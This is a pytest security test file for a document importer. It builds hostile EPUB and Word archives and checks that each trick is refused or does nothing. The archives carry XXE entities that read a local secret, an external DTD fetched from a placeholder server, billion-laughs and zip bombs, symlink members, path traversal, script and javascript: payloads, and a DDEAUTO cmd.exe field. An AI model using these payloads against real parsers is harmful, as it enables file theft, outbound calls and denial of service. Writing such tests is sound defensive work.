"""Archives by strangers: every bomb, trick and call in them is refused or does nothing."""

from __future__ import annotations

import socket
import stat
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from publish.api import importing
from publish.diagnostics import ContentError
from publish.importers.documents import program

_SECRET = "the words of a secret"
_SERVER, _FILE = "http://SERVER", "file://SECRET"  # as the sources below name them
_XHTML = "application/xhtml+xml"
Member = tuple[str | zipfile.ZipInfo, str]


_CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0">'
    '<rootfiles><rootfile full-path="a.opf"/></rootfiles></container>'
)
_PACKAGE = (
    '<package xmlns="http://www.idpf.org/2007/opf" version="3.0">'
    '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{title}</dc:title></metadata>'
    f'<manifest><item id="a" href="{{href}}" media-type="{_XHTML}"/></manifest>'
    '<spine><itemref idref="a"/></spine></package>'
)
_PAGE = '<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>A</h1><p>Words</p>{}</body></html>'


def _epub(
    *more: Member, body: str = "", head: str = "", href: str = "a.xhtml", title: str = "T"
) -> list[Member]:
    """The members of an EPUB; `head` comes before the root of its package and its page."""
    return [
        ("mimetype", "application/epub+zip"),
        ("META-INF/container.xml", _CONTAINER),
        ("a.opf", head + _PACKAGE.format(href=href, title=title)),
        ("a.xhtml", head + _PAGE.format(body)),
        *more,
    ]


_OPEN = "http://schemas.openxmlformats.org"
_OFFICE = f"{_OPEN}/officeDocument/2006/relationships"
_TYPES = (
    f'<Types xmlns="{_OPEN}/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_WORD = (
    f'<w:document xmlns:w="{_OPEN}/wordprocessingml/2006/main" xmlns:r="{_OFFICE}" '
    f'xmlns:a="{_OPEN}/drawingml/2006/main" xmlns:pic="{_OPEN}/drawingml/2006/picture" '
    f'xmlns:wp="{_OPEN}/drawingml/2006/wordprocessingDrawing"><w:body>'
    "<w:p><w:r><w:t>Words</w:t></w:r></w:p>{}</w:body></w:document>"
)
_STYLES = f'<w:styles xmlns:w="{_OPEN}/wordprocessingml/2006/main"/>'
_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="p" descr="d"/><a:graphic>'
    f'<a:graphicData uri="{_OPEN}/drawingml/2006/picture"><pic:pic><pic:blipFill>'
    '<a:blip r:{}="x"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
    "</w:drawing></w:r></w:p>"
)


def _relations(kind: str, target: str, more: str = ' TargetMode="External"') -> str:
    relation = f'<Relationship Id="x" Type="{_OFFICE}/{kind}" Target="{target}"{more}/>'
    return f'<Relationships xmlns="{_OPEN}/package/2006/relationships">{relation}</Relationships>'


def _word(
    *more: Member, body: str = "", head: str = "", kind: str = "theme", target: str = "t.xml"
) -> list[Member]:
    """The members of a Word file whose document has a relation of a kind to something outside."""
    return [
        ("[Content_Types].xml", _TYPES),
        ("_rels/.rels", _relations("officeDocument", "word/document.xml", "")),
        ("word/document.xml", head + _WORD.format(body)),
        ("word/_rels/document.xml.rels", _relations(kind, target)),
        ("word/styles.xml", _STYLES),
        *more,
    ]


def _field(code: str) -> str:
    """A complex field of Word (ECMA-376, part 1, 17.16.2)."""
    marks = {each: f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in _MARKS}
    code = f"<w:r><w:instrText>{code}</w:instrText></w:r>"
    shown = "<w:r><w:t>shown</w:t></w:r>"
    return f"<w:p>{marks['begin']}{code}{marks['separate']}{shown}{marks['end']}</w:p>"


_MARKS = ("begin", "separate", "end")
_ENTITY = f'<!DOCTYPE a [<!ENTITY e SYSTEM "{_FILE}">]>'
_CALL = f'<!DOCTYPE a SYSTEM "{_SERVER}/a.dtd" [<!ENTITY % p SYSTEM "{_SERVER}/p"> %p;]>'
_LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
_BOMB = f'<!DOCTYPE a [<!ENTITY e0 "ha">{_LAUGHS}]>'
_SQUARE = f'<!DOCTYPE a [<!ENTITY e "{"ha" * 20_000}">]>'
_INCLUDE = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{_FILE}" parse="text"/>'
_DEEP = "<b>" * 50_000 + "</b>" * 50_000
_SDT = "<w:sdt><w:sdtContent>" * 5_000 + "</w:sdtContent></w:sdt>" * 5_000
_SCRIPTS = (
    '<script>evil()</script><p onclick="evil()">p</p><p><a href="java&#x0A;script:evil()">l</a>'
    f'</p><iframe src="{_FILE}"/><form action="{_SERVER}"><input name="evil"/></form>'
    f'<p><img src="{_SERVER}/a.png" alt="a"/></p><link rel="stylesheet" href="{_SERVER}/a.css"/>'
    f'<style>@import "{_SERVER}/b.css";</style><object data="{_FILE}"/>'
)
_FIELDS = "".join(
    map(
        _field,
        [
            'INCLUDETEXT "SECRET"',
            f'INCLUDEPICTURE "{_SERVER}/a.png" \\d',
            'DDEAUTO cmd.exe "evil"',
            f'LINK Excel.Sheet "{_SERVER}"',
            'HYPERLINK "javascript:evil()"',
        ],
    )
)
_LINKED = '<w:p><w:hyperlink r:id="x"><w:r><w:t>l</w:t></w:r></w:hyperlink></w:p>'


def _link(name: str) -> Member:
    """A member that becomes a symbolic link to the secret when a program unpacks it."""
    entry = zipfile.ZipInfo(name)
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry, "SECRET"


_READ: dict[str, Callable[[], list[Member]]] = {
    "plain.epub": _epub,
    "entity.epub": lambda: _epub(head=_ENTITY, title="T &e;", body="<p>&e;</p>"),
    "doctype.epub": lambda: _epub(head=_CALL),
    "include.epub": lambda: _epub(body=_INCLUDE),
    "scripts.epub": lambda: _epub(body=_SCRIPTS),
    "linked-picture.epub": lambda: _epub(_link("a.png"), body='<p><img src="a.png" alt="a"/></p>'),
    "decomposed-name.epub": lambda: _epub(("u\u0301.xhtml", _PAGE), href="%C3%BA.xhtml"),
    "names-alike.epub": lambda: _epub(
        ("u\u0301.xhtml", _PAGE), ("\u00fa.xhtml", _PAGE), href="%C3%BA.xhtml"
    ),
    "name-twice.epub": lambda: _epub(("a.xhtml", _PAGE)),
    "plain.docx": _word,
    "name-twice.docx": lambda: _word(("word/document.xml", _WORD)),
    "linked-part.docx": lambda: _word(_link("word/numbering.xml")),
    "picture-of-a-server.docx": lambda: _word(
        body=_PICTURE.format("link"), kind="image", target=f"{_SERVER}/a.png"
    ),
    "picture-of-a-file.docx": lambda: _word(
        body=_PICTURE.format("embed"), kind="image", target=_FILE
    ),
    "template.docx": lambda: _word(
        ("word/_rels/settings.xml.rels", _relations("attachedTemplate", f"{_SERVER}/a.dotm"))
    ),
    "chunk.docx": lambda: _word(body='<w:altChunk r:id="x"/>', kind="aFChunk", target=_FILE),
    "subdocument.docx": lambda: _word(
        body='<w:p><w:subDoc r:id="x"/></w:p>', kind="subDocument", target=_FILE
    ),
    "link.docx": lambda: _word(body=_LINKED, kind="hyperlink", target="javascript:evil()"),
    "fields.docx": lambda: _word(body=_FIELDS),
    "include.docx": lambda: _word(body=f"<w:p><w:r><w:t>{_INCLUDE}</w:t></w:r></w:p>"),
}

_REFUSED: dict[str, tuple[Callable[[], list[Member]], str]] = {
    "laughs.epub": (lambda: _epub(head=_BOMB, title="&e9;"), "is not XML"),
    "laughs-in-a-page.epub": (
        lambda: _epub(("a.xhtml", _BOMB + _PAGE.format('<p title="&e9;">&e9;</p>'))),
        "has no documents",
    ),
    "square.epub": (
        lambda: _epub(("a.xhtml", _SQUARE + _PAGE.format(f"<p>{'&e;' * 20_000}</p>"))),
        "has no documents",
    ),
    "deep.epub": (lambda: _epub(body=_DEEP), "has no documents"),
    "upwards.epub": (lambda: _epub(href="../secret.txt"), "has no documents"),
    "upwards-escaped.epub": (lambda: _epub(href="%2e%2e/secret.txt"), "has no documents"),
    "absolute.epub": (lambda: _epub(href=_FILE), "has no documents"),
    "linked-page.epub": (lambda: _epub(_link("b.xhtml"), href="b.xhtml"), "has no documents"),
    "archive-as-page.epub": (lambda: _epub(("b", "PK\3\4"), href="b"), "has no documents"),
    "members.epub": (lambda: _epub(*((f"{n}", "") for n in range(20_001))), "more than any book"),
    "small-bombs.epub": (
        lambda: _epub(*((f"{n}", "0" * 900_000) for n in range(60))),
        "far larger than they are stored",
    ),
    "small-bombs.docx": (
        lambda: _word(*((f"word/media/{n}.png", "0" * 900_000) for n in range(60))),
        "far larger than they are stored",
    ),
    "laughs.docx": (
        lambda: _word(head=_BOMB, body="<w:p><w:r><w:t>&e9;</w:t></w:r></w:p>"),
        "cannot be read",
    ),
    "small-bombs.odt": (
        lambda: [("content.xml", ""), *((f"{n}", "0" * 900_000) for n in range(60))],
        "far larger than they are stored",
    ),
}


@pytest.fixture
def server() -> Iterator[socket.socket]:
    """A listener that nothing may call."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        yield listener


def _pack(file: Path, members: list[Member], replaced: dict[str, str]) -> None:
    file.parent.mkdir()
    with warnings.catch_warnings(), zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # a name twice
        for name, text in members:
            for old, new in replaced.items():
                text = text.replace(old, new)
            archive.writestr(name, text)


def _all_bytes(folder: Path) -> bytes:
    return b"\n".join(each.read_bytes() for each in folder.rglob("*") if each.is_file())


@pytest.mark.parametrize("name", _READ)
def test_tricks_do_nothing(tmp_path: Path, server: socket.socket, name: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(_SECRET)
    address = f"127.0.0.1:{server.getsockname()[1]}"
    _pack(tmp_path / "in" / name, _READ[name](), {"SECRET": str(secret), "SERVER": address})
    target = importing.import_book(tmp_path / "in" / name, tmp_path / "book").target
    assert _SECRET.encode() not in _all_bytes(target)
    (target / "import-report.md").unlink()  # it names what was left out
    assert b"Words" in _all_bytes(target)
    assert b"evil()" not in _all_bytes(target)
    assert {each.name for each in tmp_path.iterdir()} == {"in", "book", "secret.txt"}
    with pytest.raises(BlockingIOError):
        server.accept()


@pytest.mark.parametrize("name", _REFUSED)
def test_bombs_and_ways_out_are_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / "secret.txt").write_text(_SECRET)
    make, why = _REFUSED[name]
    _pack(tmp_path / "in" / name, make(), {"SECRET": str(tmp_path / "secret.txt")})
    with pytest.raises(ContentError, match=why) as error:
        importing.import_book(tmp_path / "in" / name, tmp_path / "book")
    assert [each.code for each in error.value.report.errors] == ["IMP-008"]
    assert {each.name for each in tmp_path.iterdir()} == {"in", "secret.txt"}


@pytest.mark.parametrize("members", [_epub, _word])
def test_encrypted_members_are_named(tmp_path: Path, members: Callable[[], list[Member]]) -> None:
    file = tmp_path / "in" / "a.zip"
    _pack(file, members(), {})
    content = bytearray(file.read_bytes())
    entry = content.rindex(b"PK\x01\x02")
    content[entry + 8] |= 1  # APPNOTE 4.4.4: the first bit tells that it is encrypted
    source = file.with_suffix(".epub" if members is _epub else ".docx")
    source.write_bytes(content)
    with pytest.raises(ContentError, match="is encrypted"):
        importing.import_book(source, tmp_path / "book")


_DRAWING = '{}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>t</title>{}</svg>'


@pytest.mark.parametrize(
    ("head", "inner"),
    [
        ("", "<script>evil()</script>"),
        ("", '<path d="M0 0h9" onload="evil()"/>'),
        ("", f'<image href="{_SERVER}/a.png"/>'),
        ("", f'<image href="{_FILE}"/>'),
        (_ENTITY.replace("DOCTYPE a", "DOCTYPE svg"), "<text>&e;</text>"),
        (_BOMB.replace("DOCTYPE a", "DOCTYPE svg"), "<text>&e9;</text>"),
    ],
)
def test_drawings_that_do_more_than_draw_are_reported(
    tmp_path: Path, head: str, inner: str
) -> None:
    (tmp_path / "secret.txt").write_text(_SECRET)
    source = tmp_path / "in" / "a.epub"
    page = '<p><img src="a.svg" alt="a"/></p>'
    drawing = ("a.svg", _DRAWING.format(head, inner))
    _pack(source, _epub(drawing, body=page), {"SECRET": str(tmp_path / "secret.txt")})
    target = importing.import_book(source, tmp_path / "book").target
    assert _SECRET.encode() not in _all_bytes(target)
    assert "a.svg" in (target / "import-report.md").read_text("utf-8")


@pytest.mark.slow
@pytest.mark.parametrize("pattern", ["[", "[a](", "> ", "<a "])
def test_texts_that_take_too_long_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pattern: str
) -> None:
    monkeypatch.setattr(program, "_SECONDS", 0.5)
    (tmp_path / "a.md").write_text(f"# A\n\nWords\n\n{pattern * 20_000}x\n")
    with pytest.raises(ContentError, match=r"did not end within|too deeply nested"):
        importing.import_book(tmp_path / "a.md", tmp_path / "book")
    assert not (tmp_path / "book").exists()
